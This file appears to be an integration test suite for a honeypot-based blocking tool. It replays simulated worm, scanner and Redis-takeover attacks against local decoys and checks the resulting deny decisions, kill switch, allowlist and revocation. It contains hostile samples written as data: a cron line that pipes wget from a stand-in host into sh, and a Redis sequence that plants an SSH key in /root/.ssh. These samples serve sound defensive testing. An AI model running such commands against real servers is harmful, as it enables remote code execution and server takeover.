import { afterAll, beforeAll, expect, test } from 'vitest';
import { dial } from '../attack/clients/connection.ts';
import { RedisClient } from '../attack/clients/redis.ts';
import { type AttackSummary, attack } from '../attack/index.ts';
import { createInstalled, eventually, type Listed } from './setup/installed.ts';

const system = createInstalled(
  'loop',
  `profile: lab
decision: {mode: enforce}
server: {port: 0}
sensor: {services: {ssh: {port: 0}, telnet: {port: 0, options: {failDelayMs: 50}}, http: {port: 0}, redis: {port: 0}}}
enforcement: {blocklist: {enabled: true}}
`,
);

interface Status {
  sensor: { services: { emulator: string; port: number }[] };
  killSwitch: { set: boolean };
}
interface Finding {
  subject: { value: string };
  type: string;
  whyNot: string;
}
interface Why {
  signals: { detector: string; events: { missing?: string; raw?: string; src: { ip: string } }[] }[];
}

let ports: Record<string, number> = {};
let worms: AttackSummary;
let scanners: AttackSummary;
let takers: AttackSummary;

const standing = () => system.get<Listed[]>('decisions?standing=yes&limit=1000');
const of = (list: Listed[], source: string) =>
  list.filter(({ decision }) => decision.scope.source === source);

beforeAll(async () => {
  await system.start();
  const { lines } = await system.caltrop<Status>('status');
  ports = Object.fromEntries(lines[0]!.sensor.services.map(({ emulator, port }) => [emulator, port]));
  expect(Object.keys(ports).sort()).toEqual(['http', 'redis', 'ssh', 'telnet']);
});
afterAll(() => system.remove());

/** Acts at the Redis decoy from one address. */
async function atRedis(from: string, ...commands: string[][]): Promise<void> {
  const tally = { connections: 0, refused: 0, sent: 0, received: 0 };
  const connection = await dial({ host: '127.0.0.1', port: ports.redis!, from, signal: undefined }, tally);
  const client = new RedisClient(connection!);
  for (const command of commands) await client.command(...command);
  await client.close();
}
const dropAProgram = ['SET', 'job', '* * * * * wget -qO- http://192.0.2.66/a.sh | sh'];
const plantAKey = [
  ['CONFIG', 'SET', 'dir', '/root/.ssh'],
  ['SET', 'key', 'ssh-rsa AAAAB3placeholder'],
  ['SAVE'],
];

test('each attacker is denied, as widely as its proof carries', async () => {
  const run = async (name: string, sources: number) => {
    const { code, lines } = await system.caltrop<AttackSummary>('attack', name, '--sources', String(sources));
    expect(code).toBe(0);
    expect(lines[0]!.sources).toHaveLength(sources);
    return lines[0]!;
  };
  [worms, scanners, takers] = await Promise.all([
    run('mirai', 3),
    run('web-scanner', 2),
    run('redis-takeover', 3),
  ]);
  const byKey = takers.sources[1]!;
  const exploited = [...worms.sources, ...scanners.sources, ...takers.sources.filter((one) => one !== byKey)];

  const list = await eventually(standing, (all) =>
    [...exploited, byKey].every((source) =>
      of(all, source).some(({ decision }) => source === byKey || decision.evidence === 'E5'),
    ),
  );
  for (const source of exploited) {
    expect(
      of(list, source).map(({ decision }) => decision),
      source,
    ).toMatchObject([{ evidence: 'E5', policy: 'dropper', mode: 'enforce', scope: { ports: [] } }]);
  }
  // A key was planted, no program: the deny covers the service that it was done to.
  const expected = [6379, 6380, 16379, ports.redis!].sort((a, b) => a - b);
  expect(of(list, byKey).map(({ decision }) => decision)).toMatchObject([
    { evidence: 'E4', policy: 'abuse', mode: 'enforce', scope: { ports: expected } },
  ]);
  expect(list).toHaveLength(8);

  await eventually(
    () => system.listed('all'),
    (lines) => lines.length === exploited.length,
  );
  expect(system.listed('all').sort()).toEqual([...exploited].sort());
  expect(system.listed('ports').sort()).toEqual(expected.map((port) => `${byKey},tcp,${port}`).sort());
}, 40_000);

test('an SSH worm is denied everywhere, by what it did behind its password', async () => {
  const { lines } = await system.caltrop<AttackSummary>('attack', 'ssh-worm', '--sources', '2');
  const { sources } = lines[0]!;
  const list = await eventually(standing, (all) =>
    sources.every((source) => of(all, source).some(({ decision }) => decision.evidence === 'E5')),
  );
  for (const source of sources)
    expect(of(list, source).map(({ decision }) => decision)).toMatchObject([
      { evidence: 'E5', mode: 'enforce', scope: { ports: [] } },
    ]);
}, 90_000);

test('a harmless visitor is never denied, however noisy', async () => {
  const visitors = await attack('benign', { target: '127.0.0.1', ports });
  expect(visitors.refused).toBe(0);
  await eventually(
    () => system.get<{ ip: string }[]>('sources?hours=1&limit=1000'),
    (seen) => visitors.sources.every((source) => seen.some(({ ip }) => ip === source)),
  );
  // Those of the preview and of the victim's browser look like attacks: they are told, and with them all that came before.
  const role = (name: string) => visitors.sources.filter((source) => visitors.roles[source] === name);
  const suspects = [...role('a link preview'), ...role('the browser of a victim')];
  expect(suspects).toHaveLength(2);
  const told = await eventually(
    () => system.get<Finding[]>('findings?limit=1000'),
    (all) => suspects.every((source) => all.some(({ subject }) => subject.value === source)),
  );
  const mine = told.filter(({ subject }) => visitors.sources.includes(subject.value));
  for (const finding of mine) expect(finding.whyNot, finding.type).not.toBe('');
  expect([...new Set(mine.map(({ subject }) => subject.value))].sort()).toEqual(suspects.sort());

  const all = await system.get<Listed[]>('decisions?limit=1000');
  expect(visitors.sources.flatMap((source) => of(all, source))).toEqual([]);
});

test('why walks from a decision down to the bytes that were sent', async () => {
  const [worm] = worms.sources;
  const [found] = of(await standing(), worm!);
  // The lake has an event a moment after the decision that rests on it.
  const [answer] = await eventually(
    async () => (await system.caltrop<Why>('why', found!.decision.id)).lines,
    ([why]) => why?.signals.every(({ events }) => events.every(({ missing }) => !missing)) ?? false,
  );
  const events = answer!.signals.flatMap((signal) => signal.events);
  expect(events.length).toBeGreaterThan(3);
  for (const event of events) expect(event.src.ip).toBe(worm);
  const raw = events.map((event) => event.raw ?? '').join('');
  expect(raw).toContain('/bin/busybox');
  expect(raw).toMatch(/192\.0\.2\.66|198\.51\.100\.23|\\x7f\\x45/);
});

test('what a person takes back is not denied again at once', async () => {
  const source = takers.sources[1]!;
  const [found] = of(await standing(), source);
  const refused = await system.caltrop('decisions', 'revoke', found!.decision.id);
  expect(refused.code).toBe(64);
  const done = await system.caltrop('decisions', 'revoke', found!.decision.id, '--reason', 'our own test');
  expect(done).toMatchObject({ code: 0, lines: [{ ended: [{ how: 'revoked' }] }] });
  await eventually(
    () => system.listed('ports'),
    (lines) => lines.length === 0,
  );

  await atRedis(source, dropAProgram);
  const told = await eventually(
    () => system.get<Finding[]>(`findings?subject=${source}`),
    (all) => all.some(({ type }) => type === 'dropper'),
  );
  expect(told.find(({ type }) => type === 'dropper')!.whyNot).toMatch(/person released/);
  expect(of(await standing(), source)).toEqual([]);
});

test('what is put on the never-block list is let go, and stays free', async () => {
  const [source] = scanners.sources;
  const added = await system.caltrop('allow', 'add', source!, '--reason', 'our own scanner');
  expect(added.code).toBe(0);
  expect(of(await standing(), source!)).toEqual([]);
  const [ended] = of(await system.get<Listed[]>('decisions?limit=1000'), source!);
  expect(ended!.ended).toMatchObject({ how: 'never-block' });
  await eventually(
    () => system.listed('all'),
    (lines) => !lines.includes(source!),
  );

  await atRedis(source!, ...plantAKey);
  const told = await eventually(
    () => system.get<Finding[]>(`findings?subject=${source}`),
    (all) => all.some(({ whyNot }) => /Never-block/.test(whyNot)),
  );
  expect(told.length).toBeGreaterThan(0);
  expect(of(await standing(), source!)).toEqual([]);
  expect(await system.caltrop('allow', 'remove', source!)).toMatchObject({
    code: 0,
    lines: [{ block: `${source}/32` }],
  });
});

test('stop empties what is enforced, resume fills it again', async () => {
  const before = system.listed('all');
  expect(before.length).toBeGreaterThan(4);
  const stopped = await system.caltrop('stop', '--reason', 'a drill');
  expect(stopped).toMatchObject({ code: 0, lines: [{ set: true, emptied: true }] });
  expect(system.listed('all')).toEqual([]);
  // Nothing new is denied either.
  await atRedis('127.9.9.9', dropAProgram);
  await eventually(
    () => system.get<Finding[]>('findings?subject=127.9.9.9'),
    (all) => all.some(({ whyNot }) => /kill switch/.test(whyNot)),
  );
  expect(of(await standing(), '127.9.9.9')).toEqual([]);
  const status = await system.caltrop<Status>('status');
  expect(status).toMatchObject({ code: 1, lines: [{ killSwitch: { set: true } }] });

  expect(await system.caltrop('resume')).toMatchObject({ code: 0, lines: [{ set: false }] });
  await eventually(
    () => system.listed('all'),
    (lines) => lines.length === before.length,
  );
  expect(system.listed('all')).toEqual(before);
});

test('a restart keeps the decisions and what is enforced', async () => {
  const ids = (list: Listed[]) =>
    list.map(({ decision: { scope, policy, id } }) => `${scope.source} ${policy} ${id}`).sort();
  const before = ids(await standing());
  const files = [system.listed('all'), system.listed('ports')];
  expect(await system.end()).toBe(0);
  await system.start();
  expect(ids(await standing())).toEqual(before);
  await eventually(
    () => [system.listed('all'), system.listed('ports')],
    (now) => JSON.stringify(now) === JSON.stringify(files),
  );
  expect(await system.get('audit')).toMatchObject({ ok: true, fault: null });
});
